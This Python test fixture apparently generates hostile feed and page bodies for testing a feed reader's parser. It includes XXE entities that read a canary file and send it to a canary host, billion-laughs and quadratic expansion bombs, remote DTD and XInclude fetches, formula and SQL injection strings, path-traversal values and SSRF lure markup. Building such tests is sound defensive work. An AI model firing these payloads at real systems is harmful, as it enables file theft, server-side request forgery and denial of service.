"""Feeds and pages that somebody made to do harm: what a site sends, nothing about how it sends it.

`everything` makes them new for each run, because they name the canaries of that run.
"""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from typing import Final

from tests.hostile.bait import Bait

GUID: Final = "<guid>good-%d</guid>"
_NAMES = (
    "\u202eelpmaxe.pohs", "Ann\u200b\u200d\ufeffa", "\u2066Admin\u2069", "a\u0300" * 400,
    "\ufdfa" * 300, "\U000e0041\U000e0042", "\u0430nn\u0430", "=cmd|' /c calc'!A0",
    "+1+1", "@SUM(1)", "-2", "<b>bold</b>", "&lt;script&gt;", "a\u2028b\u2029c", "\u00ad" * 100,
    "Robert'); DROP TABLE mention;--", "{0.__class__}", "%s%n", "../../etc", "\u0001\u0002",
)  # fmt: skip


def rss(inside: str, head: str = '<?xml version="1.0"?>', root: str = 'rss version="2.0"') -> bytes:
    """A feed with `inside` between two good entries."""
    before, after = GUID % 1, GUID % 2
    name = root.split(maxsplit=1)[0]
    text = (
        f"{head}<{root}><channel><title>Bad</title><item>{before}<title>first</title></item>"
        f"{inside}<item>{after}<title>last</title></item></channel></{name}>"
    )
    return text.encode("utf-8", "surrogatepass")


def everything(bait: Bait) -> dict[str, tuple[bytes, str]]:
    """Body and media type by name."""
    xml = "application/rss+xml"
    found = {name: (body, xml) for name, body in _all_xml(bait)}
    found |= {name: (body, "application/feed+json") for name, body in _json(bait)}
    found |= {name: (body, "text/html; charset=utf-8") for name, body in _pages(bait)}
    found |= {name: (rss("<item/>"), kind) for name, kind in _kinds(bait)}
    return found


def _all_xml(bait: Bait) -> Iterator[tuple[str, bytes]]:
    yield from _entities(bait)
    yield from _big()
    yield from _deep()
    yield from _lures(bait)
    yield from _words()
    yield from _bytes()


def _entities(bait: Bait) -> Iterator[tuple[str, bytes]]:
    item = "<item><title>&a;</title><description>&a;</description></item>"
    kinds = {
        "file": f'<!ENTITY a SYSTEM "file://{bait.file}">',
        "path": f'<!ENTITY a SYSTEM "{bait.file}">',
        "site": f'<!ENTITY a SYSTEM "http://{bait.site}/xxe">',
        "public": f'<!ENTITY a PUBLIC "-//x//y" "http://{bait.site}/pub">',
        "parameter": f'<!ENTITY % p SYSTEM "http://{bait.site}/dtd"> %p; <!ENTITY a "x">',
        "smuggled": f'<!ENTITY % f SYSTEM "file://{bait.file}"><!ENTITY % e "<!ENTITY &#37; s '
        f"SYSTEM 'http://{bait.site}/?%f;'>\">%e;%s;<!ENTITY a 'x'>",
        "unparsed": f'<!NOTATION n SYSTEM "http://{bait.site}/n"><!ENTITY a SYSTEM '
        f'"file://{bait.file}" NDATA n>',
        "itself": '<!ENTITY a "&a;">',
        "circle": '<!ENTITY a "&b;"><!ENTITY b "&a;">',
        "attributes": "<!ATTLIST item " + " ".join(f'a{n} CDATA "x"' for n in range(9_000)) + ">",
    }
    for name, inner in kinds.items():
        yield f"entity-{name}", rss(item, f'<?xml version="1.0"?><!DOCTYPE rss [{inner}]>')
    laughs = "".join(
        f'<!ENTITY {"abcdefghij"[n]} "{("&" + "bcdefghijk"[n] + ";") * 10}">' for n in range(9)
    )
    laughs += '<!ENTITY j "ha">'
    yield "entity-billion-laughs", rss(item, f"<!DOCTYPE rss [{laughs}]>")
    long = f'<!ENTITY a "{"A" * 60_000}">'
    swollen = f"<item><title>{'&a;' * 60_000}</title></item>"
    yield "entity-quadratic", rss(swollen, f"<!DOCTYPE rss [{long}]>")
    outside = f'<!DOCTYPE rss SYSTEM "http://{bait.site}/rss.dtd">'
    yield "dtd-outside", rss("", outside)
    yield "dtd-file", rss("", f'<!DOCTYPE rss SYSTEM "file://{bait.file}">')
    yield "dtd-public", rss("", f'<!DOCTYPE rss PUBLIC "x" "http://{bait.site}/public.dtd">')
    yield "dtd-without-end", b"<!DOCTYPE rss [" + b"<!ENTITY a 'b'>" * 200_000
    yield "stylesheet", rss("", f'<?xml-stylesheet href="http://{bait.site}/x.xsl"?>')
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{bait.file}"/>'
    yield "include", rss(f"<item><description>{include}</description></item>")
    schema = (
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="x http://{bait.site}/s.xsd"'
    )
    yield "schema", rss("", root=f'rss version="2.0" {schema}')


def _big() -> Iterator[tuple[str, bytes]]:
    def item(inner: str) -> bytes:
        return rss(f"<item><guid>bad</guid>{inner}</item>")

    for name, author in {
        "letters": "a" * 80_000,
        "dots": "a." * 40_000 + "@",
        "signs": "a@a-" * 20_000,
        "brackets": "(" * 80_000,
        "spaces": " " * 80_000 + "x",
    }.items():
        yield f"author-of-{name}", item(f"<author>{author}</author>")
    wide = " ".join(f'a{n}="{n}"' for n in range(40_000))
    yield "attributes-40000", rss(f"<item {wide}><guid>bad</guid></item>")
    yield "attributes-loose", rss(f"<item {wide}><guid>bad</guid>&</item>")
    spaces = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(20_000))
    yield "namespaces", rss(f"<item {spaces}><guid>bad</guid></item>")
    yield "attribute-of-5-MB", item(f'<link href="{"x" * 5_000_000}"/>')
    yield "name-of-1-MB", item(f"<{'n' * 1_000_000}/>")
    yield "title-of-5-MB", item(f"<title>{'t' * 5_000_000}</title>")
    yield "text-of-19-MB", item(f"<description>{'word ' * 3_800_000}</description>")
    yield "link-of-1-MB", item(f"<link>http://shop.example/{'x' * 1_000_000}</link>")
    yield "guid-of-1-MB", rss(f"<item><guid>{'g' * 1_000_000}</guid></item>")
    yield "categories", item("<category>c</category>" * 60_000)
    yield "links", item("<link href='/x' rel='alternate'/>" * 60_000)
    yield "authors", item("<author><name>n</name></author>" * 60_000)
    yield "enclosures", item("<enclosure url='/x' length='9' type='x'/>" * 60_000)
    yield "entries-200000", rss("<item/>" * 200_000)
    yield (
        "entries-60000-full",
        rss("<item><title>t</title><description>d</description></item>" * 60_000),
    )
    yield "one-guid-for-all", rss("<item><guid>1</guid><title>x</title></item>" * 30_000)
    many = "".join(
        f"<item><guid>g{n}</guid><pubDate>1-1-1-1-1</pubDate></item>" for n in range(20_000)
    )
    yield "bad-dates", rss(many)
    soup = html.escape("<p><b>soup</i><table><tr><td>" * 2_000)
    yield "tag-soup", rss(f"<item><description>{soup}</description></item>" * 100)
    yield "comments", rss("<!--x-->" * 400_000)
    yield "instructions", rss("<?x y?>" * 400_000)
    yield "cdata", item("<description>" + "<![CDATA[x]]>" * 300_000 + "</description>")
    yield "white-space", rss("\n" * 15_000_000)


def _deep() -> Iterator[tuple[str, bytes]]:
    yield "deep-elements", rss("<a>" * 200_000)
    yield "deep-closed", rss("<a>" * 50_000 + "</a>" * 50_000)
    yield "deep-entries", rss("<item>" * 100_000)
    yield "deep-channels", rss("<channel>" * 60_000)
    yield "deep-base", rss("".join(f'<a xml:base="b{n}/">' for n in range(30_000)))
    yield "deep-content", rss("<item><content type='xhtml'>" + "<div>" * 100_000)
    marked = html.escape("<div>" * 100_000)
    yield "deep-html", rss(f"<item><description>{marked}</description></item>")
    quoted = html.escape("<blockquote><font><a href=x>" * 40_000)
    yield "deep-quotes", rss(f"<item><description>{quoted}</description></item>")
    svg = html.escape("<svg><foreignObject><math><mi>" * 20_000)
    yield "deep-svg", rss(f"<item><description>{svg}</description></item>")
    escaped = "<b>x</b>"
    for _ in range(12):
        escaped = html.escape(escaped)
    yield "deep-escapes", rss(f"<item><title>{escaped}</title></item>")
    yield "open-angles", rss("<" * 1_000_000)
    yield "half-tags", rss("<a " * 500_000)
    yield "half-references", rss("&#" * 500_000)
    yield "ampersands", rss("&" * 1_000_000)
    yield "bangs", rss("<!" * 500_000)
    yield "quotes", rss('<a b="' * 300_000)


def _lures(bait: Bait) -> Iterator[tuple[str, bytes]]:
    marked = "".join(_markup(one) for one in bait.addresses)
    escaped = html.escape(marked)
    yield "markup", rss(f"<item><guid>m</guid><description>{escaped}</description></item>")
    yield "markup-loose", rss(f"<item><guid>m</guid><description>{escaped}</description>&</item>")
    yield (
        "markup-cdata",
        rss(f"<item><content:encoded><![CDATA[{marked}]]></content:encoded></item>"),
    )
    links = [html.escape(one) for one in bait.addresses]
    yield "entry-links", rss("".join(f"<item><link>{one}</link></item>" for one in links))
    yield (
        "entry-guids",
        rss("".join(f'<item><guid isPermaLink="true">{one}</guid></item>' for one in links)),
    )
    yield "enclosure-links", rss("".join(f'<item><enclosure url="{one}"/></item>' for one in links))
    yield (
        "redirect-links",
        rss(
            "".join(
                f"<item><link>https://www.google.com/url?rct=j&amp;url={one}</link></item>"
                for one in links
            )
        ),
    )
    for name, one in zip(("file", "site"), (links[0], links[8]), strict=True):
        yield (
            f"channel-{name}",
            rss(
                f"<link>{one}</link><image><url>{one}</url></image><docs>{one}</docs>"
                f'<cloud domain="{bait.site}" path="/"/><atom:link rel="self" href="{one}"/>'
                f'<atom:link rel="hub" href="{one}"/><newLocation>{one}</newLocation>'
            ),
        )
        yield f"base-{name}", rss("<item><link>x</link></item>", root=f'rss xml:base="{one}"')
        feed = (
            f'<feed xmlns="http://www.w3.org/2005/Atom" xml:base="{one}"><icon>{one}</icon>'
            f'<link rel="self" href="{one}"/><link rel="next" href="{one}"/>'
            f'<entry><id>{one}</id><link href="x"/><content src="{one}" type="text/html"/>'
            f"<author><name>x</name><uri>{one}</uri></author></entry></feed>"
        )
        yield f"atom-{name}", feed.encode()


def _markup(one: str) -> str:
    it = html.escape(one)
    return (
        f'<a href="{it}" ping="{it}">look</a><img src="{it}" srcset="{it} 2x" onerror="x()">'
        f'<link rel="stylesheet" href="{it}"><style>@import "{one}";'
        f"p{{background:url({one})}}</style>"
        f'<p style="background:url(\'{it}\')">p</p><iframe src="{it}" srcdoc="x"></iframe>'
        f'<object data="{it}"><embed src="{it}"></object>'
        f'<meta http-equiv="refresh" content="0;url={it}">'
        f'<base href="{it}"><video poster="{it}" src="{it}"><source src="{it}"></video>'
        f'<form action="{it}"><button formaction="{it}">go</button></form><body background="{it}">'
        f'<svg><image href="{it}"/><use xlink:href="{it}"/></svg>'
        f'<table background="{it}"><td>x</table>'
        f'<script src="{it}">x()</script><input type="image" src="{it}">'
        f'<portal src="{it}"></portal>'
    )


def _words() -> Iterator[tuple[str, bytes]]:
    def safe(name: str) -> str:
        return html.escape("".join(one for one in name if one >= " "))

    yield (
        "names",
        rss(
            "".join(
                f"<item><guid>n{n}</guid><title>{safe(one)}</title><author>{safe(one)}</author>"
                f"<description>{safe(one)}</description></item>"
                for n, one in enumerate(_NAMES)
            )
        ),
    )
    dates = (
        "0000-00-00", "9999-12-31T23:59:60Z", "-9999", "1" * 5_000,
        "Tue, 99 Foo 99999 99:99:99 +9999",
        "Mon, 01 Jan 0001 00:00:00 +1400", "2026-02-30T25:61:61+99:99", "\u0662\u0660\u0662\u0666",
        "1e999", "NaN", "12/31/1969", "2038-01-19T03:14:08Z", "20261301", "T", "Z", "00:00",
        "Thu, 1 Jan 1970 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 -1200",
    )  # fmt: skip
    yield (
        "dates",
        rss(
            "".join(
                f"<item><guid>d{n}</guid><pubDate>{one}</pubDate><dc:date>{one}</dc:date>"
                f"<updated>{one}</updated></item>"
                for n, one in enumerate(dates)
            )
        ),
    )
    stars = ("1e999", "-1", "NaN", "5/0", "0/0", "9" * 400, "\u2605" * 50_000, "1,5 von 5", "½")
    yield (
        "stars",
        rss(
            "".join(
                f"<item><guid>s{n}</guid><rating>{one}</rating></item>"
                for n, one in enumerate(stars)
            )
        ),
    )
    numbers = "&#0;&#x1F;&#xD800;&#xFFFE;&#x110000;&#99999999999;&#x;&#;&nosuch;&amp;#0;"
    yield "numbers", rss(f"<item><guid>x</guid><title>{numbers}</title></item>")


def _bytes() -> Iterator[tuple[str, bytes]]:
    whole = rss("<item><title>Cr\u00e8me br\u00fbl\u00e9e \u20ac</title></item>")
    yield "nothing", b""
    yield "one-byte", b"<"
    yield "nul-bytes", whole.replace(b"<item>", b"<it\0em>\0")
    yield "all-nul", b"\0" * 2_000_000
    yield "all-bytes", b"<rss>" + bytes(range(256)) * 4_000
    yield "not-utf8", whole.replace(b"first", b"\xff\xfe\xc0\x80\xed\xa0\x80\xf8\x88\x80\x80")
    yield "utf8-cut", whole.replace("\u20ac".encode(), b"\xe2\x82")
    yield "utf16-odd", whole.decode().encode("utf-16")[:-1]
    yield "utf16-swapped", b"\xff\xfe" + whole.decode().encode("utf-16-be")
    yield "utf32", whole.decode().encode("utf-32")
    yield (
        "utf7",
        whole.replace(b'1.0"', b'1.0" encoding="utf-7"').replace(b"first", b"+ADw-script+AD4-"),
    )
    for cut in (9, len(whole) // 3, len(whole) // 2, len(whole) - 3):
        yield f"cut-at-{cut}", whole[:cut]
    names = (
        b"zlib",
        b"base64",
        b"idna",
        b"punycode",
        b"unicode_escape",
        b"rot13",
        b"../../x",
        b"a" * 9_000,
    )
    for name in names:
        body = whole.replace(b'1.0"', b'1.0" encoding="' + name + b'"')
        yield f"charset-{name[:14].decode().replace('/', '_')}", body
    yield "gzip-without-saying", b"\x1f\x8b\x08\0\0\0\0\0" + whole
    yield "zip", b"PK\x03\x04" + whole
    yield "picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 2_000
    yield "program", b"\x7fELF" + bytes(range(256)) * 2_000
    yield "two-roots", whole + whole
    yield "text-after", whole + b"x" * 1_000_000
    yield "root-late", b"<!--" + b"x" * 40_000 + b"-->" + whole
    yield "bom-many", b"\xef\xbb\xbf" * 1_000 + whole


def _json(bait: Bait) -> Iterator[tuple[str, bytes]]:
    head = b'{"version": "https://jsonfeed.org/version/1.1", "title": "Bad", "items": '
    yield "json-deep-lists", head + b"[" * 1_000_000
    yield "json-deep-closed", head + b"[" * 100_000 + b"]" * 100_000 + b"}"
    yield "json-deep-objects", head + b'[{"id": ' * 200_000
    yield "json-long-number", head + b'[{"id": ' + b"9" * 2_000_000 + b"}]}"
    yield "json-exponent", head + b'[{"id": 1e999999999}, {"id": -1e-999999999}, {"id": NaN}]}'
    yield "json-many-entries", head + b"[" + b"{}," * 1_000_000 + b"{}]}"
    yield "json-long-text", head + b'[{"id": "a", "content_text": "' + b"t" * 15_000_000 + b'"}]}'
    yield (
        "json-many-keys",
        head + b"[{" + b",".join(b'"k%d": 1' % n for n in range(300_000)) + b"}]}",
    )
    yield "json-halves", head + b'[{"id": "\\ud800", "title": "\\udfff\\u0000", "url": "\\ud83d"}]}'
    yield (
        "json-types",
        head + b'[1, null, [], "x", {"id": {}, "title": [], "url": 5, "authors": {}}]}',
    )
    yield "json-cut", head + b'[{"id": "a", "content_text": "half'
    lured = [
        dict.fromkeys(("id", "url", "external_url", "image"), one) | {"content_html": _markup(one)}
        for one in bait.addresses
    ]
    one = bait.addresses[8]
    more = {
        "next_url": one,
        "feed_url": one,
        "icon": one,
        "hubs": [{"url": one}],
        "home_page_url": one,
    }
    version = {"version": "https://jsonfeed.org/version/1.1"}
    yield "json-lures", json.dumps({**version, **more, "items": lured}).encode()


def _pages(bait: Bait) -> Iterator[tuple[str, bytes]]:
    named = "".join(
        f'<link rel="alternate" type="application/rss+xml" href="{html.escape(one)}">'
        for one in bait.addresses
    )
    yield "page-names-lures", f"<!doctype html><html><head>{named}</head>".encode()
    for name, one in zip(("file", "site"), (bait.addresses[0], bait.addresses[8]), strict=True):
        link = '<link rel="alternate" type="application/rss+xml" href="x">'
        page = f'<!doctype html><html><head><base href="{one}">{link}</head>'
        yield f"page-base-{name}", page.encode()
        moved = f'<meta http-equiv="refresh" content="0;url={one}">'
        yield f"page-refresh-{name}", f"<!doctype html><html><head>{moved}</head>".encode()
    itself = '<link rel="alternate" type="application/atom+xml" href="/again">'
    yield "page-names-itself", f"<!doctype html><html><head>{itself}</head>".encode()
    yield "page-many-links", b"<!doctype html><html><head>" + itself.encode() * 200_000
    yield "page-deep", b"<!doctype html><html>" + b"<div>" * 500_000
    yield "page-half-tags", b"<!doctype html><html><head>" + b"<link rel='" * 400_000
    yield "page-bangs", b"<!doctype html><html><head>" + b"<![if " * 300_000 + b"<!-" * 300_000
    yield "page-markup", "".join(_markup(one) for one in bait.addresses).encode()


def _kinds(bait: Bait) -> Iterator[tuple[str, str]]:
    yield "kind-charset-path", f"text/xml; charset={bait.file}"
    yield "kind-charset-zlib", "text/xml; charset=zlib"
    yield "kind-long", "text/xml; " + "a=b; " * 4_000
    yield "kind-nonsense", ";;;==;;"
